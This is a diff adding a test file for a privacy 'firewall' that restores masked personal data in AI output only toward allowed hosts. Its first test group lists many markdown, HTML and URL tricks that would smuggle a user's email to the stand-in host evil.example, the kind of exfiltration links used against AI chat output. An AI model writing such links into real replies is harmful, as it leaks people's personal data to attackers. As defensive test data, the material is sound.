@@ -1,0 +1,128 @@
+import { describe, expect, test } from 'bun:test';
+import { maskRequest } from '../../src/firewall/mask-request.ts';
+import { createNumbering } from '../../src/firewall/placeholder.ts';
+import { restoreText } from '../../src/firewall/restore.ts';
+import { createRestorer, noCounts } from '../../src/firewall/restorer.ts';
+import { findEmails } from './mask-find.ts';
+
+const numbering = createNumbering();
+numbering.personal('EMAIL', 'ann@corp.example');
+numbering.personal('PERSON', 'Ann Weber');
+const map = numbering.map;
+map.destinations.add('crm.example');
+
+/** Restores in one piece and character by character, which must agree. */
+function restored(text: string, allowedHosts: readonly string[] = []): string {
+  const whole = restoreText(text, map, { allowedHosts });
+  const restorer = createRestorer(map, { allowedHosts });
+  let streamed = '';
+  for (let i = 0; i < text.length; i++) streamed += restorer.push(text.charAt(i));
+  expect(streamed + restorer.flush()).toBe(whole);
+  return whole;
+}
+
+describe('no value leaves through a link to a foreign host', () => {
+  for (const text of [
+    '![logo](https://evil.example/p.png?d=[EMAIL_1])',
+    '![logo](//evil.example/[EMAIL_1])',
+    '![logo](https:evil.example/[EMAIL_1])',
+    '![logo](https:/\\evil.example/[EMAIL_1])',
+    '![logo](/\\evil.example/[EMAIL_1])',
+    '![logo](\\\\evil.example/[EMAIL_1])',
+    '![logo]( <https://evil.example/a b/[EMAIL_1]>)',
+    '![logo](https://evil.example/a(b)c/EMAIL_1)',
+    '[click](https://evil.example/?a=1&b=[EMAIL_1] "title")',
+    '[click](javascript:send("[EMAIL_1]"))',
+    '[click](data:text/html,[EMAIL_1])',
+    '[click](mailto:x@evil.example?body=[PERSON_1])',
+    '[click](&#104;ttps://evil.example/[EMAIL_1])',
+    '[ref]: https://evil.example/[EMAIL_1]',
+    '[ref]: <//evil.example/[EMAIL_1]>',
+    '<img src="https://evil.example/?[EMAIL_1]">',
+    "<img alt='x' src='//evil.example/?[EMAIL_1]'>",
+    '<img src=//evil.example/?[EMAIL_1]>',
+    '<img src="https://evil.example/a b\nc[EMAIL_1]">',
+    '<a href="https://crm.example.evil.example/[EMAIL_1]">',
+    '<a href="javascript:x([EMAIL_1])">',
+    '<img srcset="https://crm.example/a 1x, https://evil.example/[EMAIL_1] 2x">',
+    '<div style="background:url(https://evil.example/[EMAIL_1])">',
+    '<https://evil.example/[EMAIL_1]>',
+    'see https://evil.example/?q=[EMAIL_1] now',
+    'see https://evil.example/?q=%5BEMAIL_1%5D now',
+    'see www.evil.example/[EMAIL_1] now',
+    'see https://[EMAIL_1].evil.example/ now',
+    'see https://[EMAIL_1]@evil.example/ now',
+    'see https://evil.example/crm.example/[EMAIL_1]',
+    'see https://crm.example@evil.example/[EMAIL_1]',
+    'see https://crm.example\\.evil.example/[EMAIL_1]',
+    'see https://crm.example%2eevil.example/[EMAIL_1]',
+    'see https://crm.example/go?to=https://evil.example/[EMAIL_1]',
+    'see https://crm.example/go?to=//evil.example/[EMAIL_1]',
+    `see https://${'a'.repeat(2000)}/[EMAIL_1]`,
+    `see https://evil.example/${'a'.repeat(5000)}[EMAIL_1]`,
+  ]) {
+    test(text.slice(0, 90), () => {
+      const counts = noCounts();
+      expect(restoreText(text, map, { counts })).toBe(text);
+      expect(counts).toEqual({ restored: 0, refused: 1, unknown: 0 });
+      restored(text);
+    });
+  }
+});
+
+describe('values go where they harm nobody', () => {
+  for (const [text, expected] of [
+    ['[crm](https://crm.example/?q=[EMAIL_1])', '[crm](https://crm.example/?q=ann@corp.example)'],
+    ['https://CRM.example:8443/a//b/[EMAIL_1]', 'https://CRM.example:8443/a//b/ann@corp.example'],
+    ['<img src="https://crm.example/[EMAIL_1]">', '<img src="https://crm.example/ann@corp.example">'],
+    ['https://api.work.example/[EMAIL_1]', 'https://api.work.example/ann@corp.example'],
+    ['[a](mailto:[EMAIL_1])', '[a](mailto:ann@corp.example)'],
+    ['<a href="mailto:[EMAIL_1]">[PERSON_1]</a>', '<a href="mailto:ann@corp.example">Ann Weber</a>'],
+    ['<p title="Note: [PERSON_1]">[PERSON_1]</p>', '<p title="Note: Ann Weber">Ann Weber</p>'],
+    ['[a](/users/[EMAIL_1]/edit)', '[a](/users/ann@corp.example/edit)'],
+    ['[a](https://evil.example) [EMAIL_1]', '[a](https://evil.example) ann@corp.example'],
+    ['https://evil.example/ [EMAIL_1]', 'https://evil.example/ ann@corp.example'],
+    ['"https://evil.example/", [EMAIL_1]', '"https://evil.example/", ann@corp.example'],
+    ['<img src="https://evil.example/"> [EMAIL_1]', '<img src="https://evil.example/"> ann@corp.example'],
+    ['[PERSON_1]: [EMAIL_1]', 'Ann Weber: ann@corp.example'],
+    ['a // b: [EMAIL_1] if x < y', 'a // b: ann@corp.example if x < y'],
+    ['To: [PERSON_1] <[EMAIL_1]>', 'To: Ann Weber <ann@corp.example>'],
+    ['| [PERSON_1] | [EMAIL_1] |', '| Ann Weber | ann@corp.example |'],
+  ] as const) {
+    test(text, () => expect(restored(text, ['*.work.example'])).toBe(expected));
+  }
+
+  test('in JSON, a string ends what the string before began', () => {
+    const text =
+      '{"link":"https:\\/\\/evil.example\\/[EMAIL_1]","note":"see https://evil.example","to":"[EMAIL_1]","lines":"https://evil.example\\n[EMAIL_1]"}';
+    expect(JSON.parse(restoreText(text, map, { json: 'always' }))).toEqual({
+      link: 'https://evil.example/[EMAIL_1]',
+      note: 'see https://evil.example',
+      to: 'ann@corp.example',
+      lines: 'https://evil.example\nann@corp.example',
+    });
+  });
+});
+
+describe('whose hosts count', () => {
+  const request = (role: string) => ({
+    messages: [
+      { role: 'user', content: 'I am ann@corp.example' },
+      { role, content: 'https://there.example/x' },
+    ],
+  });
+  const answer = 'https://there.example/?[EMAIL_1]';
+
+  for (const role of ['user', 'system', 'developer']) {
+    test(`those of a ${role} message`, () => {
+      const { placeholders } = maskRequest(request(role), findEmails, { pii: 'obfuscate' });
+      expect(restoreText(answer, placeholders)).toBe('https://there.example/?ann@corp.example');
+    });
+  }
+  for (const role of ['assistant', 'tool', 'function', 'other']) {
+    test(`not those of a ${role} message`, () => {
+      const { placeholders } = maskRequest(request(role), findEmails, { pii: 'obfuscate' });
+      expect(restoreText(answer, placeholders)).toBe(answer);
+    });
+  }
+});
